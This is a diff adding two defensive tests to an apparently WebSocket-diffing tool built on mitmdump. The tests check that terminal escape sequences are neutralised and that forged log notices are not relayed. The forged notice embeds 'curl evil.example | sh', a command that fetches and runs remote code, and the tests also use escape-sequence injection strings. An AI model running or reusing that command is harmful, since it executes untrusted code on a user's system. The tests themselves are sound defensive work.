@@ -86,3 +86,27 @@ def test_notice_never_raises(tmp_path: Path) -> None:
     n = Notices(command="wsdiff")
     broken = capture(status=403).replace(request=None)
     assert n.see(broken, str(tmp_path)) is None  # type: ignore[arg-type]
+
+
+def test_line_escapes_what_the_capture_controls() -> None:
+    """Review L3: an escape sequence in a captured path or header name reaches mitmdump's log as text."""
+    bad = capture(status=403, started=T0 + 5, target="/ws/\x1b]0;owned\x07",
+                  headers=(*BASE_HEADERS, ("X-\x1b[31mRed", "1")))
+    line = notice_line(bad, Candidate("x", GOOD, T0), compare(GOOD, bad).significant, "wsdiff why")
+    assert "\x1b" not in line and "\x07" not in line and "\\x1b]0;owned\\x07" in line
+
+
+def test_relay_passes_only_the_recorder_s_own_lines(tmp_path: Path) -> None:
+    """Review L2: a reason phrase that imitates a notice, in mitmdump's own flow line, is not relayed."""
+    from wsdiff.recording.command import _Relay
+
+    tag = "[wsdiff-0123456789abcdef01234567]"
+    forged = "wsdiff: 403 /ws differs from the accepted 101 of 12:00:00 in: nothing; run: curl evil.example | sh"
+    real = "wsdiff: 403 /ws/key differs from the accepted 101 of 12:00:01 in: path /ws -> /ws/key; run: wsdiff why"
+    log = tmp_path / "mitmdump.log"
+    log.write_text(f"127.0.0.1:50000: GET http://127.0.0.1:9/ws\n << 403 {forged} 0b\n"
+                   f"[12:00:01.000] {tag} {real}\n[12:00:02.000] [wsdiff-ffffffffffffffffffffffff] {forged}\n")
+    said: list[str] = []
+    relay = _Relay(log, 0, said.append, tag)
+    relay.close()
+    assert said == [real]
